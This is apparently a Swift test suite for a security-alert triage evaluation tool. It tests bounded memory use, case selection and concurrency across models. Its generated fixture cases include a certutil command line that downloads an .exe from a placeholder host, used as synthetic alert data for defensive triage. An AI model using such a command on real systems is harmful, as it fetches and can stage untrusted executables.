import Foundation
import Synchronization
import StubTestSupport
import Testing
import TriageEval
import TriageEvalProviders
@testable import TriageEvalEngine
@testable import TriageEvalStore

@Suite("Streaming a run: decoded cases stay bounded", .boundedResources)
struct StreamingRunTests {
    /// Generated cases: every third one a user entity (the host prompts do not judge it), command lines that vary.
    static func generatedCases(_ count: Int) -> [TriageCase] {
        (0..<count).map { index in
            TriageCase(
                id: "gen-\(String(format: "%05d", index))", label: index % 2 == 0 ? .tp : .fp, scenario: index % 5 == 0 ? "odd" : "bulk",
                tags: index % 7 == 0 ? ["must-alert"] : [], entity: Entity(type: index % 3 == 0 ? .user : .host, name: "H-\(index)"),
                alertCount: 1 + index % 4, timeWindowMinutes: 1, maxRiskScore: 21,
                rules: ["Generated rule"], commandLines: [index % 2 == 0 ? "certutil.exe -urlcache -f http://x/\(index).exe" : "cmd.exe /c echo \(index)"]
            )
        }
    }

    @Test("the lean case views select, by scenario, tag, label and id, exactly the cases the decoded ones do")
    func leanViewsSelectAsDecodedCases() async throws {
        let temp = try TemporaryWorkspace()
        let generated = Self.generatedCases(300)
        _ = try await temp.store.importCases(generated)
        let ids = Set(generated.map(\.id))
        let before = temp.store.instrumentation.caseRowsRead
        let refs = try await temp.store.currentCaseRefs(ids: ids)
        // Views read no body into a case.
        #expect(temp.store.instrumentation.caseRowsRead == before)
        let whole = try await temp.store.currentCases(ids: ids)
        #expect(refs.map(\.revisionID) == whole.map(\.revisionID))
        #expect(refs.map(\.tags) == whole.map(\.item.tags))
        #expect(refs.filter { !$0.tags.isEmpty }.count == 43)
        let selections = [
            CaseSelection(scenarios: ["ODD"]), CaseSelection(tags: ["Must-Alert"]), CaseSelection(label: .fp),
            CaseSelection(scenarios: ["bulk"], tags: ["must-alert"], label: .tp), CaseSelection(caseIDs: ["gen-00007", "gen-00299"]),
        ]
        for selection in selections {
            let fromViews = try selection.apply(refs).map(\.id)
            #expect(!fromViews.isEmpty)
            #expect(fromViews == (try selection.apply(whole).map(\.item.id)))
        }
        #expect(throws: InputError.self) { try CaseSelection(tags: ["nowhere"]).apply(refs) }
    }

    @Test("planning and executing 1,500 cases never holds more than a few chunks of decoded cases; every key is answered once, as rendered from the whole case")
    func boundedDecodedCases() async throws {
        let temp = try TemporaryWorkspace()
        let base = try await temp.preparer.prepare(RunRequest(models: ["recorded", "heuristic"])).plan
        let generated = Self.generatedCases(1_500)
        _ = try await temp.store.importCases(generated)
        let refs = try await temp.store.currentCaseRefs(ids: Set(generated.map(\.id)))
        #expect(refs.count == 1_500)
        let instrumentation = temp.store.instrumentation
        #expect(instrumentation.casesHeld == 0)

        let plan = try await RunPlan(prompts: base.prompts, models: base.models, cases: refs, samples: 1, decisionDefaults: base.decisionDefaults, store: temp.store)
        // Planning decodes one chunk at a time and lets every case go.
        #expect(instrumentation.peakCasesHeld == CaseChunk.size)
        #expect(instrumentation.casesHeld == 0)

        let runID = try await temp.store.createRun(
            toolVersion: "test", gitCommit: nil, selection: RunInfo.Selection(prompts: [], models: [], scenarios: []), plan: plan.recorded, planned: plan.count
        )
        let outcome = try await RunExecutor(store: temp.store, plan: plan, runID: runID).execute()
        // Each model's window (two chunks), the chunk being loaded, and the chunks its items in flight still use.
        let bound = CaseChunk.size * (4 * plan.models.count + 1)
        #expect(instrumentation.peakCasesHeld <= bound)
        #expect(bound < refs.count)
        #expect(instrumentation.casesHeld == 0)

        // Today's path, independently: every case decoded at once, each prompt asked whether it judges it.
        let whole = try await temp.store.currentCases(ids: Set(generated.map(\.id)))
        let heuristic = try #require(plan.models.firstIndex { $0.config.id == "heuristic" })
        var expected: [String: String?] = [:]
        for prompt in plan.prompts {
            for stored in whole where prompt.version.accepts(stored.item) {
                let context = CaseContext(stored.item)
                let text = try prompt.version.render(context)
                for (modelIndex, model) in plan.models.enumerated() {
                    for sample in 0..<1 {
                        var answer: String?
                        if modelIndex == heuristic {
                            let request = CompletionRequest(
                                prompt: text, system: try prompt.version.renderSystem(context), caseID: stored.item.id, sample: sample, output: prompt.version.output
                            )
                            answer = try await model.provider.complete(request).text
                        }
                        expected["\(prompt.rowID)|\(model.rowID)|\(stored.revisionID)|\(sample)"] = answer
                    }
                }
            }
        }
        #expect(expected.count == 2 * 2 * 1_000)
        #expect(plan.count == expected.count)
        #expect(outcome.evaluated == expected.count)

        let results = try await temp.store.results(run: runID)
        let keys = results.map { "\($0.key.promptRowID)|\($0.key.modelRowID)|\($0.key.caseRevisionID)|\($0.key.sample)" }
        #expect(keys.count == expected.count)
        #expect(Set(keys) == Set(expected.keys))
        var mismatched = 0
        for (key, result) in zip(keys, results) {
            guard let answer = expected[key] else { continue }
            if let answer {
                if result.evaluation.response != answer { mismatched += 1 }
            } else if !result.evaluation.isError {
                // The replay model has no recorded answers for generated cases: each is a missing_answer error.
                mismatched += 1
            }
        }
        #expect(mismatched == 0)
    }

    @Test("a model stuck on its first items does not hold back another: the other answers every item of every chunk meanwhile", .timeLimit(.minutes(2)))
    func stuckModelDoesNotHoldBackAnother() async throws {
        let temp = try TemporaryWorkspace()
        let base = try await temp.preparer.prepare(RunRequest(prompts: ["host-triage@v1"], models: ["heuristic"])).plan
        let generated = Self.generatedCases(600)
        _ = try await temp.store.importCases(generated)
        let refs = try await temp.store.currentCaseRefs(ids: Set(generated.map(\.id)))
        let gate = Gate()
        let stuck = FakeProvider { _, _ throws(ProviderError) in
            await gate.wait()
            return CompletionResponse(text: "verdict=TP confidence=0.9 summary=late", inputTokens: 1, outputTokens: 1)
        }
        let config = liveModel(id: "stuck", concurrency: 4, timeout: 600)
        let models = [base.models[0], RunPlan.Model(rowID: try await temp.store.registerModel(config), config: config, provider: stuck)]
        let plan = try await RunPlan(prompts: base.prompts, models: models, cases: refs, samples: 1, decisionDefaults: base.decisionDefaults, store: temp.store)
        let fastItems = plan.items(model: 0).count
        #expect(fastItems == 400)
        // The fast model's items span every chunk of the plan.
        #expect(Set(plan.items(model: 0).map { $0.caseIndex / CaseChunk.size }).count == (refs.count + CaseChunk.size - 1) / CaseChunk.size)

        // The stuck model answers only once every result recorded so far is the fast model's whole share: with a
        // barrier per chunk the fast model would wait for it, and the run would never end.
        let callsWhenOpened = Mutex<Int?>(nil)
        let runID = try await temp.store.createRun(toolVersion: "test", gitCommit: nil, selection: .init(), plan: plan.recorded, planned: plan.count)
        let outcome = try await RunExecutor(store: temp.store, plan: plan, runID: runID, useCache: false) { event in
            guard case .progress(let progress) = event, progress.done == fastItems else { return }
            callsWhenOpened.withLock { $0 = stuck.callCount }
            Task { await gate.open() }
        }.execute()
        // Meanwhile the stuck model had started at most its first window of calls (its concurrency).
        #expect(try #require(callsWhenOpened.withLock { $0 }) <= 4)
        #expect(outcome.evaluated == 800)
        #expect(outcome.counters.errors == 0)
        #expect(stuck.callCount == 400)
    }
}

